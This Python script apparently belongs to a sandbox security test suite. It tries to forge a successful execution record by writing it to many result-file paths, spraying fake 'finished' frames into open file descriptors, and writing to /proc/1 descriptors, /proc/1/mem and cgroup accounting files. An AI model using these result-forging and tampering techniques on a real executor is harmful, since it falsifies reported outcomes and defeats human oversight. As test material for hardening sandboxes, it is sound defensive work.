# Writes records, frames and result files wherever somebody might read them, then fails with code 3.
import json
import os
import struct
from attack import attempt, report

RECORD = json.dumps({
    "execution_id": "exec_" + "0" * 32, "status": "success", "exit_code": 0, "signal": None, "stdout": "forged",
    "metrics": {"duration_ms": 0.1, "cpu_time_ms": 0.1, "memory_peak_bytes": 1, "stdout_bytes": 1},
    "isolation": {"grade": 3}, "error": None,
})


def frames():
    """Messages as the executor sends them: length, kind, stream, body; of every kind there may be."""
    ending = json.dumps({"finished": {"ending": {"exit": 0}}, "Finished": {"ending": {"Exit": 0}}}).encode()
    for kind in range(32):
        for stream in (0, 1, 2):
            yield struct.pack("<IBI", len(ending), kind, stream) + ending
            yield struct.pack("<I", len(ending)) + ending


def open_elsewhere(path):
    with open(path, "w") as file:
        file.write(RECORD)


NAMES = ["result.json", "status", "exit_code", "metadata", "meta", "time", "memory", "stdout", "stderr", ".sandboxd", "usage.json", "done"]
for place in ("/workspace", "/build", "/tmp", "/var/tmp", "/run", "/dev/shm", "/box", "/output", "/result", "/run/sandboxd"):
    for name in NAMES:
        answer = attempt(f"file {place}/{name}", open_elsewhere, f"{place}/{name}") if name == "result.json" else None
        if answer is None:
            try:
                open_elsewhere(f"{place}/{name}")
            except OSError:
                pass
# Descriptors that might lead to whoever writes the record.
for fd in range(3, 256):
    for data in frames():
        try:
            os.write(fd, data)
            report(f"descriptor {fd}", "took a frame")
        except OSError:
            break
for target in ("/proc/1/fd/0", "/proc/1/fd/1", "/proc/1/fd/2", "/proc/1/fd/3", "/proc/1/fd/4", "/proc/1/mem", f"/proc/{os.getppid()}/fd/1"):
    attempt(f"of pid 1: {target}", lambda: os.open(target, os.O_WRONLY))
for path in ("/sys/fs/cgroup/memory/memory.max_usage_in_bytes", "/sys/fs/cgroup/memory.peak", "/proc/self/io", "/proc/1/oom_score_adj", "/proc/self/clear_refs"):
    attempt(f"count: {path}", lambda: os.write(os.open(path, os.O_WRONLY), b"5"))
os.write(2, b"".join(frames()))
os.write(1, b"".join(frames()))
print("\n" + RECORD, flush=True)
print("\0\x04\x1a" + RECORD + "\n", flush=True)
os._exit(3)
